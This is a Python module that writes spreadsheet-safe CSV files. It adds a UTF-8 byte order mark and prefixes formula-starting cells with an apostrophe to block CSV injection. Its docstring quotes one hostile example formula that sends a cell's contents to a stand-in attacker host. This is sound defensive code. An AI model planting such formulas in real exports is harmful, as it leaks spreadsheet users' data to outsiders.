"""CSV files that people open in a spreadsheet: UTF-8 with a BOM, no formulas.

Excel reads a CSV as UTF-8 only when it starts with a byte order mark, and
runs any cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a
carriage return, which it skips first) as a formula: a hostile name such as
``=HYPERLINK("http://evil/?"&A1)`` would run on the reader's machine. Every
CSV the plugin writes for people (the import's error report, the directory
export) goes through :func:`safe_cell`, as OWASP recommends ("CSV injection").
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator

#: Excel and LibreOffice read UTF-8 only when the file starts with this.
BOM = "\ufeff"
#: What a spreadsheet takes as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> str:
    """``value`` as text a spreadsheet shows and never runs.

    A leading apostrophe makes Excel and LibreOffice read the cell as text;
    cells whose first non-blank character starts a formula get one too,
    because some spreadsheets skip leading spaces.
    """
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) or text.lstrip(" \n").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_line(cells: Iterable) -> str:
    """One CSV line (comma, every cell quoted, CRLF) of neutralised cells."""
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([safe_cell(c) for c in cells])
    return out.getvalue()


def csv_text(rows: Iterable[Iterable]) -> Iterator[str]:
    """The BOM, then one neutralised line per row: for streaming responses."""
    yield BOM
    for row in rows:
        yield csv_line(row)
